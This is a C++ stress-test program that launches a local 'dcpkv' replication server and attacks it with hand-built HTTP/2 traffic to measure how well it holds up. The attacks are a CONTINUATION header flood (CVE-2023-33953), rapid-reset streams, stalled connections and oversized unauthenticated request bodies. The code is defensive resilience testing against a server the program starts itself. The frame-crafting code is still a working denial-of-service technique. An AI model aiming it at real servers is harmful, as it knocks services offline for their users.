// Hostile clients against `dcpkv serve`, each attack on a server of its own (plaintext on
// 127.0.0.1, a bearer token, `ulimit -n 1024`): what the server holds before, during and after
// (resident memory now and at its peak, open descriptors), and whether a client with the token
// is answered afterwards. Exits 1 if a server died or did not answer after an attack.
//
//   dcpkv_replica_attack [--cli PATH] [--quick] [--only ATTACK]
//
// --cli measures another build's `dcpkv` (a server of an earlier version under the same attacks);
// --quick makes every attack smaller (the ctest run).
#include <grpcpp/grpcpp.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <functional>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "dcpkv/replication/replica.h"
#include "replication.grpc.pb.h"
#include "tests/replication/replica_test_util.h"
#include "tests/replication/serve_process.h"
#include "tests/util/temp_dir.h"

namespace dcpkv::testing {
namespace {

namespace v1 = ::dcpkv::replication::v1;
using Clock = std::chrono::steady_clock;

constexpr char kToken[] = "attack-test-token-0123456789";

// --- HTTP/2 by hand --------------------------------------------------------------------------

std::string Frame(uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
  std::string f;
  const uint32_t n = static_cast<uint32_t>(payload.size());
  f += static_cast<char>(n >> 16);
  f += static_cast<char>(n >> 8);
  f += static_cast<char>(n);
  f += static_cast<char>(type);
  f += static_cast<char>(flags);
  f += static_cast<char>((stream >> 24) & 0x7f);
  f += static_cast<char>(stream >> 16);
  f += static_cast<char>(stream >> 8);
  f += static_cast<char>(stream);
  return f + payload;
}

constexpr uint8_t kHeaders = 1, kRstStream = 3, kSettings = 4, kContinuation = 9;
constexpr uint8_t kEndStream = 1, kEndHeaders = 4;

// An HPACK string literal shorter than 128 bytes, not Huffman-coded.
std::string Str(const std::string& s) { return static_cast<char>(s.size()) + s; }

// The header block of a gRPC call to `method`, with literals only (no dynamic table).
std::string CallHeaders(const std::string& method) {
  std::string b;
  b += '\x83';                                                           // :method POST
  b += '\x86';                                                           // :scheme http
  b += '\x04' + Str("/dcpkv.replication.v1.ManifestReplica/" + method);  // :path
  b += '\x01' + Str("127.0.0.1");                                        // :authority
  b += std::string("\x0f\x10", 2) + Str("application/grpc");             // content-type
  b += '\x00' + Str("te") + Str("trailers");
  return b;
}

std::string Preface() {
  return std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") + Frame(kSettings, 0, 0, "");
}

bool SendAll(int fd, const std::string& bytes) {
  for (size_t sent = 0; sent < bytes.size();) {
    const ssize_t n = ::send(fd, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
    if (n <= 0) return false;
    sent += static_cast<size_t>(n);
  }
  return true;
}

// Reads and drops what the server sends on `fd` until it closes, so that it never blocks on us.
class Drain {
 public:
  explicit Drain(int fd)
      : thread_([this, fd] {
          char buf[65536];
          while (::recv(fd, buf, sizeof(buf), 0) > 0) {
          }
          closed_ = true;
        }) {}
  ~Drain() { thread_.join(); }
  bool closed() const { return closed_; }

 private:
  std::atomic<bool> closed_{false};
  std::thread thread_;
};

// --- the server and what it holds ------------------------------------------------------------

struct Sample {
  long rss_kib = 0, peak_kib = 0;
  int files = 0;
};

Sample Take(const ServeProcess& s) { return {s.RssKiB(), s.PeakRssKiB(), s.OpenFiles()}; }

// Put, Get and List with the token, each within 5 s.
bool Answered(const std::string& target, const std::string& id) {
  replication::ReplicaClientOptions o;
  o.token = kToken;
  o.deadline = std::chrono::seconds(5);
  StatusOr<std::unique_ptr<replication::ReplicaClient>> client =
      replication::ReplicaClient::Connect(target, o);
  if (!client.ok()) return false;
  return (*client)->Put("probe", TestRecord(id)).ok() && (*client)->Get("probe", id).ok() &&
         (*client)->List("probe").ok();
}

struct Attack {
  const char* name;
  // Runs against the server; fills `during` at the height of the attack and says what happened.
  std::function<std::string(ServeProcess& serve, Sample* during)> run;
};

// --- the attacks -----------------------------------------------------------------------------

// One header block continued by CONTINUATION frames that never ends (CVE-2023-33953).
std::string HeaderFlood(ServeProcess& serve, Sample* during, size_t total) {
  const int fd = ConnectAndStall(serve.port());
  if (fd < 0) return "cannot connect";
  timeval five{5, 0};
  ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &five, sizeof(five));
  std::string block;
  while (block.size() < 16000) block += '\x00' + Str("x-filler") + Str(std::string(100, 'f'));
  const std::string continuation = Frame(kContinuation, 0, 1, block);
  size_t sent = 0;
  bool cut = false;
  {
    Drain drain(fd);
    cut = !SendAll(fd, Preface() + Frame(kHeaders, 0, 1, CallHeaders("List")));
    while (!cut && sent < total) {
      cut = !SendAll(fd, continuation);
      if (!cut) sent += continuation.size();
    }
    *during = Take(serve);
    ::shutdown(fd, SHUT_RDWR);
  }
  ::close(fd);
  return std::to_string(sent >> 20) + " MiB of headers sent" +
         (cut ? ", then the server stopped reading or closed" : ", never cut off");
}

// Streams opened and reset at once on one connection (HTTP/2 rapid reset).
std::string RapidReset(ServeProcess& serve, Sample* during, int streams) {
  const int fd = ConnectAndStall(serve.port());
  if (fd < 0) return "cannot connect";
  timeval five{5, 0};
  ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &five, sizeof(five));
  const std::string headers = CallHeaders("List");
  const std::string cancel("\0\0\0\x08", 4);
  int opened = 0;
  bool cut = false;
  {
    Drain drain(fd);
    cut = !SendAll(fd, Preface());
    while (!cut && opened < streams) {
      std::string batch;
      for (int i = 0; i < 100 && opened < streams; ++i, ++opened) {
        const uint32_t id = 2 * static_cast<uint32_t>(opened) + 1;
        batch += Frame(kHeaders, kEndHeaders, id, headers) + Frame(kRstStream, 0, id, cancel);
      }
      cut = !SendAll(fd, batch);
    }
    *during = Take(serve);
    ::shutdown(fd, SHUT_RDWR);
  }
  ::close(fd);
  return std::to_string(opened) + " streams opened and reset" +
         (cut ? ", then the server closed the connection" : "");
}

// `n` connections that send `hello` (maybe nothing), from `hosts` source addresses in turn;
// held `hold`, then how many the server had closed.
std::string HeldConnections(ServeProcess& serve, Sample* during, int n, int hosts,
                            const std::string& hello, std::chrono::milliseconds hold) {
  std::vector<int> fds;
  int refused = 0;
  for (int i = 0; i < n; ++i) {
    const std::string from = "127.0.0." + std::to_string(2 + i % hosts);
    const int fd = ConnectAndStall(serve.port(), from.c_str());
    if (fd < 0 || !SendAll(fd, hello)) {
      ++refused;
      if (fd >= 0) ::close(fd);
      continue;
    }
    fds.push_back(fd);
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  *during = Take(serve);
  size_t closed_at_once = 0;
  for (int fd : fds) closed_at_once += ClosedByPeer(fd) ? 1 : 0;
  std::this_thread::sleep_for(hold);
  size_t closed_later = 0;
  for (int fd : fds) closed_later += ClosedByPeer(fd) ? 1 : 0;
  for (int fd : fds) ::close(fd);
  return std::to_string(n) + " connections from " + std::to_string(hosts) +
         " hosts: " + std::to_string(closed_at_once) + " closed within 0.3 s, " +
         std::to_string(closed_later) + " within " +
         std::to_string(hold.count() / 1000.0).substr(0, 4) + " s" +
         (refused > 0 ? ", " + std::to_string(refused) + " not connected" : "");
}

// `connections` x `in_flight` unary Puts of `body` bytes without the token, `rounds` times.
std::string Bodies(ServeProcess& serve, Sample* during, int connections, int in_flight, int rounds,
                   size_t body) {
  std::atomic<int> calls{0}, refused{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < connections; ++t) {
    threads.emplace_back([&, t] {
      PutWithoutToken(serve.target(), t, body, in_flight, rounds, [&](const grpc::Status& s) {
        ++calls;
        if (!s.ok()) ++refused;
      });
    });
  }
  for (std::thread& t : threads) t.join();
  *during = Take(serve);
  return std::to_string(calls.load()) + " Puts of " + std::to_string(body >> 20) +
         " MiB without the token, " + std::to_string(refused.load()) + " refused";
}

// `manifests` Puts with the token into `namespaces` namespaces.
std::string Manifests(ServeProcess& serve, Sample* during, int manifests, int namespaces) {
  replication::ReplicaClientOptions o;
  o.token = kToken;
  StatusOr<std::unique_ptr<replication::ReplicaClient>> client =
      replication::ReplicaClient::Connect(serve.target(), o);
  if (!client.ok()) return "cannot connect";
  int failed = 0, most_files = 0;
  std::string first_error;
  for (int i = 0; i < manifests; ++i) {
    Status s = (*client)->Put("job-" + std::to_string(i % namespaces),
                              TestRecord("step-" + std::to_string(i)));
    if (!s.ok() && failed++ == 0) first_error = s.ToString();
    if (i % 50 == 0) most_files = std::max(most_files, serve.OpenFiles());
  }
  *during = Take(serve);
  during->files = std::max(during->files, most_files);
  return std::to_string(manifests) + " manifests in " + std::to_string(namespaces) +
         " namespaces, " + std::to_string(failed) + " failed" +
         (failed > 0 ? " (first: " + first_error.substr(0, 120) + ")" : "");
}

// `clients` clients with the token calling Put, Get and List in turn for `seconds`.
std::string Load(ServeProcess& serve, Sample* during, int clients, int seconds) {
  std::atomic<int> answered{0}, failed{0};
  const auto until = Clock::now() + std::chrono::seconds(seconds);
  std::vector<std::thread> threads;
  for (int c = 0; c < clients; ++c) {
    threads.emplace_back([&, c] {
      replication::ReplicaClientOptions o;
      o.token = kToken;
      auto client = replication::ReplicaClient::Connect(serve.target(), o);
      if (!client.ok()) return;
      const std::string ns = "load-" + std::to_string(c);
      for (int i = 0; Clock::now() < until; ++i) {
        const std::string id = "step-" + std::to_string(i % 50);
        bool ok = (*client)->Put(ns, TestRecord(id, i)).ok();
        ok = ok && (*client)->Get(ns, id).ok() && (*client)->List(ns).ok();
        (ok ? answered : failed) += 3;
      }
    });
  }
  std::this_thread::sleep_for(std::chrono::seconds(seconds) / 2);
  *during = Take(serve);
  for (std::thread& t : threads) t.join();
  return std::to_string(clients) + " clients for " + std::to_string(seconds) +
         " s: " + std::to_string(answered.load()) + " calls answered, " +
         std::to_string(failed.load()) + " failed";
}

int Main(int argc, char** argv) {
  std::string cli;
  bool quick = false;
  std::string only;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    if (a == "--cli" && i + 1 < argc) {
      cli = argv[++i];
    } else if (a == "--quick") {
      quick = true;
    } else if (a == "--only" && i + 1 < argc) {
      only = argv[++i];
    } else {
      std::fprintf(stderr, "usage: %s [--cli PATH] [--quick] [--only ATTACK]\n", argv[0]);
      return 2;
    }
  }
  const size_t flood = quick ? size_t{16} << 20 : size_t{256} << 20;
  const auto hold = quick ? std::chrono::milliseconds(0) : std::chrono::milliseconds(12000);
  const std::string settled = Preface();
  const std::vector<Attack> attacks = {
      {"header flood", [&](ServeProcess& s, Sample* d) { return HeaderFlood(s, d, flood); }},
      {"rapid reset",
       [&](ServeProcess& s, Sample* d) { return RapidReset(s, d, quick ? 2000 : 20000); }},
      {"stalled connections",
       [&](ServeProcess& s, Sample* d) { return HeldConnections(s, d, 300, 1, "", hold); }},
      {"stalled, 5 hosts",
       [&](ServeProcess& s, Sample* d) { return HeldConnections(s, d, 300, 5, "", hold); }},
      {"idle connections",
       [&](ServeProcess& s, Sample* d) { return HeldConnections(s, d, 300, 5, settled, hold); }},
      {"64 MiB bodies",
       [&](ServeProcess& s, Sample* d) {
         return Bodies(s, d, 8, 1, 1, quick ? size_t{8} << 20 : size_t{64} << 20);
       }},
      {"4 MiB bodies",
       [&](ServeProcess& s, Sample* d) { return Bodies(s, d, 8, 16, quick ? 1 : 3, 4 << 20); }},
      {"manifests",
       [&](ServeProcess& s, Sample* d) { return Manifests(s, d, quick ? 200 : 1000, 250); }},
      {"load", [&](ServeProcess& s, Sample* d) { return Load(s, d, 8, quick ? 2 : 20); }},
  };
  std::printf("server: %s\n", cli.empty() ? DCPKV_CLI : cli.c_str());
  std::printf("%-20s | %-23s | %-23s | %-23s | %s\n", "attack", "before: RSS/peak, files",
              "during: RSS/peak, files", "after: RSS/peak, files", "answered after; what happened");
  int failures = 0;
  for (const Attack& attack : attacks) {
    if (!only.empty() && only != attack.name) continue;
    TempDir tmp;
    std::ofstream(tmp.Sub("token")) << kToken;
    ServeProcess serve(tmp.Sub("replica"), 1024, tmp.Sub("serve.log"),
                       "--token-file " + tmp.Sub("token"), cli);
    if (!serve.error().empty()) {
      std::printf("%-20s | the server did not start: %s\n", attack.name, serve.error().c_str());
      ++failures;
      continue;
    }
    const bool warm = Answered(serve.target(), "warm-up");
    const Sample before = Take(serve);
    Sample during;
    const std::string what = attack.run(serve, &during);
    std::this_thread::sleep_for(std::chrono::seconds(1));
    const bool answered = warm && Answered(serve.target(), "after");
    const Sample after = Take(serve);
    const bool alive = after.rss_kib > 0;
    const auto cell = [](const Sample& s) {
      char buf[64];
      std::snprintf(buf, sizeof(buf), "%ld/%ld MiB, %d", s.rss_kib >> 10, s.peak_kib >> 10,
                    s.files);
      return std::string(buf);
    };
    std::printf("%-20s | %-23s | %-23s | %-23s | %s; %s\n", attack.name, cell(before).c_str(),
                cell(during).c_str(), alive ? cell(after).c_str() : "(server gone)",
                answered ? "yes" : "NO", what.c_str());
    std::fflush(stdout);
    failures += answered && alive ? 0 : 1;
  }
  return failures == 0 ? 0 : 1;
}

}  // namespace
}  // namespace dcpkv::testing

int main(int argc, char** argv) { return dcpkv::testing::Main(argc, argv); }
